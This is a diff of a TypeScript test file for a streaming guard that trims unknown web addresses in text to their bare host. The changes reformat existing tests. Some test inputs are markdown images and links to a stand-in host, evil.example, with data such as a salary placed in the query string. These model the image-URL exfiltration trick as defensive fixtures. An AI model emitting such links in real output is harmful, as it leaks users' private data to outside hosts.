@@ -15,7 +15,10 @@ function check(text: string, expected: string, known = 'See https://known.exampl
 }
 
 test('addresses that were given stay, all others are cut to their host', () => {
-  check('A [link](https://known.example/page) and https://Known.example/page.\n', 'A [link](https://known.example/page) and https://Known.example/page.\n');
+  check(
+    'A [link](https://known.example/page) and https://Known.example/page.\n',
+    'A [link](https://known.example/page) and https://Known.example/page.\n',
+  );
   check('![x](https://evil.example/?q=the+salary)', '![x](evil.example)');
   check('[click here](https://known.example/page?salary=5 "title")', '[click here](known.example "title")');
   check('<https://known.example/page/more>', '<known.example>');
@@ -34,12 +37,20 @@ test('an address that is spelled in entities or behind backslashes is seen as a 
 });
 
 test('other text stays as it is, letter for letter', () => {
-  for (const text of ['Ratio 3:1, AT&T; a\\*b, 10:30, C:\\Users, note: yes, // a comment, and/or\n\n  indented\ttext', 'x'.repeat(20_000), '| a | b |\n|---|---|\n']) check(text, text);
+  for (const text of [
+    'Ratio 3:1, AT&T; a\\*b, 10:30, C:\\Users, note: yes, // a comment, and/or\n\n  indented\ttext',
+    'x'.repeat(20_000),
+    '| a | b |\n|---|---|\n',
+  ])
+    check(text, text);
 });
 
 test('words pass with their first letters, and what may become an address waits', () => {
   const guarding = createTextGuard('');
-  assert.deepEqual(['# Ti', 'tle h', 'ttps:', '//evil.example/x', ' (www', '.evil.example/y) ', 'end'].map((piece) => guarding.push(piece)), ['# Ti', 'tle ', '', '', 'evil.example ', '(evil.example) ', 'end']);
+  assert.deepEqual(
+    ['# Ti', 'tle h', 'ttps:', '//evil.example/x', ' (www', '.evil.example/y) ', 'end'].map((piece) => guarding.push(piece)),
+    ['# Ti', 'tle ', '', '', 'evil.example ', '(evil.example) ', 'end'],
+  );
 });
 
 test('without material every address stays; characters nobody sees never do', () => {
